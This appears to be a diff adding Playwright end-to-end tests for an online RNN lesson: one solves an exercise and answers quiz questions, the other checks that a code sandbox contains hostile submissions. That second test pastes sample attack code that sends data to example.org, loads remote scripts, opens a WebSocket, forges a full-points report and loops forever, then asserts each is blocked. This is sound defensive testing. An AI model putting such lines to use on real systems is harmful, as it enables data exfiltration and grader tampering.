@@ -1,0 +1,89 @@
+import type { Page } from '@playwright/test';
+import { exerciseOf } from '../src/exercises/exercises.ts';
+import { cell } from './journeys.ts';
+import { expect, expectAccessible, openLesson, test } from './support.ts';
+
+/** Replaces what stands in the editor of an exercise, as a person pastes. */
+async function paste(page: Page, title: string, code: string): Promise<void> {
+  const editor = cell(page, title).getByRole('textbox', { name: `Code: ${title}` });
+  await editor.click();
+  await page.keyboard.press('Control+a');
+  await page.keyboard.insertText(code);
+}
+
+const step = exerciseOf('rnn/rnn-step');
+
+test('an exercise is solved, trained with, questions are answered, and a reload loses nothing', async ({
+  page,
+}) => {
+  await openLesson(page, 'rnn', 'wasm');
+  const exercise = cell(page, step.title);
+  await exercise.scrollIntoViewIfNeeded();
+  const wrong = step.reference.replace('return tf.add(tf.mul(mask, next), kept)', 'return next');
+  await paste(page, step.title, wrong);
+  await page.keyboard.press('Control+Enter');
+  await expect(
+    exercise.getByText('The mask is not applied: the state changed on a padded step.'),
+  ).toBeVisible({
+    timeout: 60_000,
+  });
+  await expect(exercise.getByText('5 of 7 points')).toBeVisible();
+  await expectAccessible(page);
+
+  await paste(page, step.title, step.reference);
+  await page.keyboard.press('Control+Enter');
+  await expect(exercise.getByText('Solved: 7 of 7 points')).toBeVisible({ timeout: 60_000 });
+  await exercise.getByRole('button', { name: 'Reference solution' }).click();
+  await expect(exercise.getByText('Opened after it was solved.')).toBeVisible();
+
+  await exercise.getByRole('button', { name: 'Train with my code' }).click();
+  await expect(exercise.getByText('with ours').first()).toBeVisible({ timeout: 120_000 });
+  await expect(exercise.getByRole('button', { name: 'Train with my code' })).toBeVisible({
+    timeout: 120_000,
+  });
+
+  const questions = cell(page, 'Questions');
+  await questions.getByText('An RNN has 4 gates.').click();
+  await questions.getByRole('button', { name: 'Answer' }).first().click();
+  await expect(questions.getByText(/That is the LSTM/)).toBeVisible();
+  await questions.getByText(/One score for each class/).click();
+  await questions.getByRole('button', { name: 'Answer' }).first().click();
+  await expect(questions.getByText(/^Right\./)).toBeVisible();
+  await page.getByRole('button', { name: /^Saved/ }).waitFor();
+  // Kept a moment after it was typed.
+  await page.waitForTimeout(600);
+
+  await page.reload();
+  await expect(exercise.getByRole('textbox', { name: `Code: ${step.title}` })).toContainText('const kept');
+  await expect(questions.getByText(/^Right\./)).toBeVisible();
+  await expect(page.getByRole('navigation', { name: 'Cells of this lesson' })).toContainText('7 / 7');
+});
+
+test('hostile code is ended, and the page stays alive and closed', async ({ page }) => {
+  const asked: string[] = [];
+  page.on('request', (request) => asked.push(request.url()));
+  await openLesson(page, 'rnn', 'wasm');
+  const exercise = cell(page, step.title);
+  await paste(
+    page,
+    step.title,
+    `const ways = [() => fetch('https://example.org/?stolen'), () => importScripts('https://example.org/x.js'),
+      () => indexedDB.open('seqlab'), () => self.postMessage({ type: 'report', report: { points: 7 } }),
+      () => new WebSocket('wss://example.org'), () => parent.document.body.remove()];
+    for (const way of ways) { try { way(); console.log('OPEN'); } catch { console.log('CLOSED'); } }
+    import('https://example.org/x.js').then(() => console.log('OPEN'), () => {});
+    function rnnStep() { for (;;) {} }`,
+  );
+  await page.keyboard.press('Control+Enter');
+  await expect(exercise.getByText(/gave no sign of life for 2 seconds/).first()).toBeVisible({
+    timeout: 60_000,
+  });
+  const output = exercise.getByRole('region', { name: 'Output of your code' });
+  await expect(output).toContainText('CLOSED');
+  await expect(output).not.toContainText('OPEN');
+  expect(asked.filter((url) => url.includes('example.org'))).toEqual([]);
+  // The page goes on: the right code is checked at once.
+  await paste(page, step.title, step.reference);
+  await page.keyboard.press('Control+Enter');
+  await expect(exercise.getByText('Solved: 7 of 7 points')).toBeVisible({ timeout: 60_000 });
+});
